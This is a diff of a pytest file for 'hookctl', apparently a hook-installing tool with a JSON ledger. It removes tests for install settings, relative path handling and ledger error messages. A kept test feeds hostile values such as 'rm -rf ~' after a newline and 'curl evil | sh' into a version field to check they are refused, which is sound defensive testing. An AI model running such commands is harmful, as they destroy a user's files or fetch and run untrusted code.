@@ -56,23 +56,6 @@ def test_every_record_comes_back_as_it_was(record: Record, tmp_path: Path) -> No
     assert store.load(own(put(tmp_path / "ledger.json", data))) == {"/x": record}
 
 
-@pytest.mark.parametrize(
-    "commands",
-    [
-        [["install"]],
-        [["install", "--mode", "off"]],
-        [["install", "--force", "--set", "max_stop_blocks=7", "--set", "latch=false"]],
-        [["install"], ["install", "--mode", "off"], ["install", "--mode", "breaker"]],
-        [["install"], ["uninstall"]],
-    ],
-)
-def test_what_is_written_is_valid(commands: list[list[str]], hookctl: Hookctl, settings: Path) -> None:
-    put(settings, b'{"env": {"MAX_STOP_BLOCKS": "5", "CLAUDE_CODE_STOP_HOOK_BLOCK_CAP": 3}, "hooks": {}}')
-    for verb, *options in commands:
-        assert hookctl(verb, "--host", "claude", *options).code == 0
-        valid(Path(folders.here().ledger).read_bytes())
-
-
 @pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
 @pytest.mark.parametrize("name", ["ledger", "journal"])
 def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: Path, name: str, needs: Any) -> None:
@@ -83,22 +66,6 @@ def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: P
     assert (caught.value.code, caught.value.message) == (
         "ledger_newer", "a later hookctl is needed to read this record"
     )  # fmt: skip
-
-
-@pytest.mark.parametrize(
-    ("path", "name"),
-    [
-        ("/home/u/.claude/settings.json", "../../.claude/settings.json"), ("/home/u", "../.."), ("", ""),
-        ("/home/u/state/hookctl/data", "./data"), ("/home/unlike", "/home/unlike"), ("git+https://x", "git+https://x"),
-    ],
-)  # fmt: skip
-@pytest.mark.parametrize("home", ["/home/u", "/home/u/", "/elsewhere"])
-def test_a_path_is_kept_relative_to_the_records_where_both_lie_below_home(home: str, path: str, name: str) -> None:
-    here = folders.Folders("/home/u/state/hookctl", "/data", {"HOME": home}, "/")
-    assert here.shorten(path) == (path if home == "/elsewhere" else name)
-    assert here.resolve(name) == path
-    moved = folders.Folders("/home/moved/state/hookctl", "/data", {"HOME": home}, "/")
-    assert moved.resolve(name) == (path.replace("/home/u", "/home/moved") if name.startswith(".") else path)
 
 
 PAGE = json.loads(store.dump({"/x": RECORDS[2]}))
@@ -127,28 +94,7 @@ def broken_pages() -> list[tuple[str, Any]]:
     return found
 
 
-ODD = "hookctl does not write it like this"
 PYTHONS_OWN = ("Error", "object", "indices", "iterable", "NoneType", "literal", "attribute")
-
-
-@pytest.mark.parametrize(
-    ("data", "place", "said"),
-    [
-        (b"no ledger", (1, 1), "not valid JSON"), (b'{"files":\n 1 2}', (2, 4), "not valid JSON"),
-        (b"\xff\xfe\xfa", (0, 0), ODD), (b"[" * 100_000, (0, 0), ODD),
-        (b'{"ledger_version": 2, "needs": "0.2.0", "files": {}, "more": 1}', (0, 0), "unknown: more"),
-        (b'{"ledger_version": NaN}', (0, 0), "NaN is not valid JSON"),
-        (b"1" * 5_000, (0, 0), ODD),
-    ],
-    ids=["no JSON", "no JSON further on", "no UTF-8", "deep", "unknown", "NaN", "huge"],
-)  # fmt: skip
-def test_what_is_wrong_with_a_ledger_is_said_in_words(
-    data: bytes, place: tuple[int, int], said: str, tmp_path: Path
-) -> None:
-    with pytest.raises(HookctlError) as caught:
-        store.load(own(put(tmp_path / "ledger.json", data)))
-    assert caught.value.message == f"hookctl's record cannot be read: {said}"
-    assert (caught.value.line, caught.value.column) == place
 
 
 def test_a_ledger_with_a_value_of_a_wrong_kind_is_refused_or_does_no_harm(tmp_path: Path) -> None:
